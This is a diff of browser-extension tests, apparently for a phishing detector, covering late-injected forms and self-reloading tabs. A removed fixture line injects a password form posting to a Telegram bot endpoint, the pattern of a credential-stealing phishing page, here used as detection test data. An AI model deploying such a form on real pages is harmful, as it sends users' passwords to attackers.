@@ -141,13 +141,20 @@ describe.skipIf(!chromiumPath)('the extension', () => {
 
   test('judges forms that a script adds late, and pages that never finish loading', () => {
     const pages = {
-      '/late': `<title>Hi</title><script>setTimeout(() => document.body.insertAdjacentHTML('beforeend',
-        '<form action="https://api.telegram.org/bot1:x/sendMessage"><input type="password"></form>'), 1500)</script>`,
+      ...PAGES,
+      '/late': `<title>Hi</title><script>setTimeout(async () => {
+        document.body.innerHTML = await (await fetch('/form')).text();
+      }, 1500)</script>`,
+      '/form': PAGES['/phish'] ?? '',
       '/endless': `${PAGES['/phish']}<img src="/wait">`,
     };
     return withScene({ pages }, async ({ extension, site, badge }) => {
       const page = await extension.context.newPage();
+      // The first page of all waits for the server to warm up.
+      await page.goto(`${site}/garden`);
+      await badge(page, '✓');
       await page.goto(`${site}/late`);
+      await badge(page, '…');
       await badge(page, '✓');
       await badge(page, '✕');
       await page.route('**/wait', () => {});
@@ -158,16 +165,14 @@ describe.skipIf(!chromiumPath)('the extension', () => {
 
   test('sends a bounded number of pages of a tab that reloads itself', () => {
     const pages = {
-      '/loop':
-        '<script>setTimeout(() => location.replace("/loop?" + Math.random()), 400)</script><p id="p"></p>',
+      '/loop': '<script>setTimeout(() => location.replace("/loop?" + Math.random()), 400)</script>',
     };
     return withScene({ pages }, async ({ extension, site, received }) => {
       const page = await extension.context.newPage();
       await page.goto(`${site}/loop`);
-      await until(
-        async () => (await page.locator('p').count()) === 1 && received.length >= 20,
-        'the bound is reached',
-      );
+      await until(() => received.length >= 20, `the bound is reached`, 90_000).catch((error) => {
+        throw new Error(`${error.message}: ${received.length} pages`);
+      });
       await pause(3000);
       expect(received).toHaveLength(20);
       await page.close();
